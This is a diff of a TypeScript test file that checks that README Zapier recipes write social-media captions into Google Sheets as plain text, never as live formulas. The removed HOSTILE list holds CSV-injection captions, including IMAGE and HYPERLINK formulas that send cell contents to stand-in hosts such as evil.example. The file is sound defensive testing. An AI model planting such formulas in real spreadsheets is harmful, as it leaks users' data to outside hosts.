@@ -7,11 +7,9 @@
  * model of typed input (scripts/gas-standin/services/cellInput.ts) says what each cell becomes.
  * Every caption must arrive as the text the author wrote: no formula, no number.
  */
-import { readFileSync } from 'node:fs';
-import { join } from 'node:path';
-import { enterValue } from '../../scripts/gas-standin/services/cellInput';
 import type { Sandbox } from '../../scripts/sandbox/server';
 import { TEST_START } from '../../test/support/clock';
+import { HOSTILE, asTyped, enteredRow, readmeRecipes, valueAt } from './recipe-support';
 import { app, sandbox, tester } from './support';
 
 const MIN = 60_000;
@@ -27,27 +25,8 @@ beforeEach(() => {
 });
 afterEach(() => jest.useRealTimers());
 
-/** Captions a spreadsheet would run or change (OWASP's CSV injection starts), and a plain one. */
-const HOSTILE = [
-  '=IMAGE("https://x.example/?"&A1)',
-  '=HYPERLINK("https://evil.example/?"&B2,"win")',
-  '+1',
-  '@SUM(1)',
-  '-2+3',
-  '\t=1+1',
-  '\r=1+1',
-  'A plain caption #veganrecipes',
-];
-
-/** The README's Zaps (under "## Three Zaps"): a title and its steps' text. */
-function readmeZaps(): { title: string; text: string }[] {
-  const readme = readFileSync(join(__dirname, '..', 'README.md'), 'utf8');
-  const section = readme.split('## Three Zaps')[1].split('\n## ')[0];
-  return section
-    .split(/\n(?=\*\*)/)
-    .filter((b) => b.startsWith('**'))
-    .map((b) => ({ title: b.slice(2, b.indexOf('**', 2)), text: b }));
-}
+/** The README's Zaps under "## Three Zaps": a title and its steps' text. */
+const readmeZaps = () => readmeRecipes('## Three Zaps');
 
 /** The output fields a recipe maps into the sheet: "map `Author Username`, `Caption (...)` ... to your columns". */
 function mappedLabels(text: string): string[] {
@@ -56,13 +35,8 @@ function mappedLabels(text: string): string[] {
   return [...map[1].matchAll(/`([^`]+)`/g)].map((m) => m[1].replace(/\s+/g, ' '));
 }
 
-/** A post's value at a Zapier output key (`author__username`: nested objects joined by `__`). */
-const valueAt = (post: Record<string, any>, key: string): unknown =>
-  key.split('__').reduce<any>((v, k) => (v === null || v === undefined ? v : v[k]), post);
-
 /** The row as Google Sheets stores it: each mapped value entered as if typed (en_US, UTC). */
-const enteredRow = (post: Record<string, any>, keys: string[]) =>
-  keys.map((k) => enterValue(valueAt(post, k), '', 'UTC'));
+const rowOf = (post: Record<string, any>, keys: string[]) => enteredRow(keys.map((k) => valueAt(post, k)));
 
 test('the README has a Zap that writes posts to Google Sheets, and it maps the spreadsheet-safe caption', () => {
   const sheets = readmeZaps().filter((z) => /Google Sheets|CSV/.test(z.text));
@@ -100,14 +74,14 @@ test.each(readmeZaps().filter((z) => /Create Spreadsheet Row/.test(z.text)))(
     expect(published.every((p) => byId.has(p.id))).toBe(true);
 
     for (const [i, p] of published.entries()) {
-      const row = enteredRow(byId.get(p.id)!, keys);
+      const row = rowOf(byId.get(p.id)!, keys);
       // The caption cell holds exactly the caption, as text (a lone CR as the twin's line feed); no
       // cell of the row is a formula.
-      expect(row[keys.indexOf(caption)]).toEqual({ value: HOSTILE[i].replace(/\r(?!\n)/g, '\n') });
+      expect(row[keys.indexOf(caption)]).toEqual({ value: asTyped(HOSTILE[i]) });
       expect(row.filter((c) => c.formula !== undefined)).toEqual([]);
     }
     // What the plain Caption field would have done: a live formula in the user's sheet.
-    const plain = enteredRow(byId.get(published[0].id)!, ['caption'])[0];
+    const plain = rowOf(byId.get(published[0].id)!, ['caption'])[0];
     expect(plain).toEqual({ value: '', formula: HOSTILE[0] });
   },
 );
